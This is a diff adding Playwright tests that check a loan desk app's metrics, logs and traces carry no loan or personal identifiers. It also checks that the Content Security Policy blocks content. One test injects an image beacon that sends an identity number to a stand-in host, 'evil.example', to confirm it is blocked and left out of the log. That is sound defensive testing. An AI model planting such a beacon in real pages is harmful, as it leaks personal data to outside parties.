@@ -1,0 +1,134 @@
+import { expect } from '@playwright/test';
+import getPort from 'get-port';
+import { type Collector, startCollector } from '#lib/server/telemetry/test-collector.ts';
+import { test } from './fixtures.ts';
+import { posted } from './raw.ts';
+import { prepareSubject, routeCases } from './route-cases.ts';
+import type { Desk } from './servers/start-desk.ts';
+import { loanOfOwnCustomer } from './servers/start-sandbox.ts';
+
+const jsonLines = (desk: Desk) =>
+  desk
+    .output()
+    .split('\n')
+    .filter((line) => line.startsWith('{'))
+    .map((line) => JSON.parse(line));
+const requestLines = (desk: Desk) => jsonLines(desk).filter(({ event }) => event === 'request');
+
+test.describe('what an operator sees', () => {
+  let collector: Collector;
+  test.beforeEach(async () => {
+    collector = await startCollector();
+  });
+  test.afterEach(() => collector.close());
+
+  test('every route is counted, logged and traced, and no loan and no person is named', async ({
+    ownDesk,
+    cookieOf,
+  }) => {
+    const metricsPort = await getPort();
+    const desk = await ownDesk({
+      METRICS_PORT: String(metricsPort),
+      OTEL_EXPORTER_OTLP_ENDPOINT: collector.endpoint,
+      BUILD_COMMIT: 'abc123',
+    });
+    const loans: string[] = [];
+    const ownLoan = () => {
+      const loan = loanOfOwnCustomer();
+      loans.push(loan);
+      return loan;
+    };
+    const pasted = '390.533.447-05';
+    for (const role of ['analyst', 'support', 'auditor'] as const) {
+      const as = await cookieOf(role);
+      const masked = await cookieOf('support');
+      const subject = await prepareSubject((request) => desk.raw({ ...request, as }), {
+        loan: ownLoan(),
+        masked,
+      });
+      for (const one of routeCases) await desk.raw({ ...one.request({ ...subject, loan: ownLoan() }), as });
+    }
+    const as = await cookieOf('analyst');
+    for (const path of [`/loans/${pasted}`, `/${pasted}`, `/?q=${pasted}`, `/api/${pasted}`]) {
+      await desk.raw({
+        path,
+        as,
+        headers: { host: path.includes('?') ? pasted : new URL(desk.origin).host },
+      });
+    }
+    await desk.raw({ ...posted('/api/lookup/enter', { identifiers: [['document', pasted]] }), as });
+    const metrics = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
+    await desk.stop('SIGTERM');
+    const lines = requestLines(desk);
+    const shown = {
+      metrics,
+      traces: collector.received(),
+      lines: lines.map((line) => JSON.stringify(line)).join('\n'),
+    };
+
+    for (const [what, text] of Object.entries(shown)) {
+      for (const loan of loans) expect(text.includes(loan), `${what}: ${loan}`).toBe(false);
+      // Numbers and values of the loan, and the people who are signed in, as the sandboxes have them.
+      expect(
+        text.match(/390\.?533|39053344705|CCB-|maria|silva|@|sub":|Ana |127\.0\.0\.1:\d+\/v1\/loans|\?q=/i),
+        what,
+      ).toBeNull();
+    }
+    for (const { route } of routeCases) {
+      expect(metrics, route).toContain(`loan_desk_http_requests_total{route="${route}",`);
+      if (route.startsWith('/api/health')) continue;
+      expect(
+        lines.some((line) => line.route === route),
+        `a line of ${route}`,
+      ).toBe(true);
+      expect(shown.traces, `a span of ${route}`).toContain(`${route}"`);
+    }
+    for (const part of ['session', 'upstream', 'record']) {
+      expect(
+        lines.some((line) => line.route === '/loans/[loan]' && line.ms[part] > 0),
+        part,
+      ).toBe(true);
+    }
+    // One person has one hash, and three people have three.
+    const people = new Set(lines.flatMap(({ actor }) => actor ?? []));
+    expect(people.size).toBe(3);
+    const names = new Set(collector.spans().map(({ name }) => name));
+    expect([...names].filter((name) => !/^(GET|POST) /.test(name)).sort()).toEqual([
+      ...['lending-api', 'record', 'render', 'session', 'upstream'],
+    ]);
+    expect(metrics).toContain('loan_desk_build_info{version="0.2.0",commit="abc123"');
+    expect(metrics).toMatch(/loan_desk_access_records_total\{action="reveal",outcome="ok"\} [1-9]/);
+    expect(metrics).toMatch(/loan_desk_access_records_total\{action="refusal",outcome="forbidden"\} [1-9]/);
+    expect(metrics).toMatch(/loan_desk_lending_api_tries_total\{outcome="ok"\} [1-9]/);
+    expect(metrics).toMatch(/loan_desk_sessions [1-9]/);
+    expect(metrics).toMatch(/nodejs_eventloop_lag_seconds /);
+  });
+});
+
+test('unless asked for there are no metrics, and REQUEST_LOG=off leaves no line', async ({
+  ownDesk,
+  cookieOf,
+}) => {
+  const desk = await ownDesk({ REQUEST_LOG: 'off' });
+  await desk.raw({ path: '/', as: await cookieOf('analyst') });
+  await desk.stop('SIGTERM');
+  expect(requestLines(desk)).toEqual([]);
+});
+
+test('a browser reports to the desk what the policy kept from running, and the log has no URL of it', async ({
+  ownDesk,
+  page,
+  faults,
+}) => {
+  faults.expect(/evil\.example.*(Content Security Policy|csp)/);
+  const desk = await ownDesk();
+  await page.goto(`${desk.origin}/sign-in/problem?reason=noAccess`);
+  await page.evaluate(() => {
+    const image = document.createElement('img');
+    image.src = 'http://evil.example/loan_planted1?q=390.533.447-05';
+    document.body.append(image);
+  });
+  const reports = () => jsonLines(desk).filter(({ event }) => event === 'browser-report');
+  await expect.poll(reports).toMatchObject([{ directive: 'img-src', blocked: 'http://evil.example' }]);
+  expect(desk.output()).not.toContain('loan_planted1');
+});
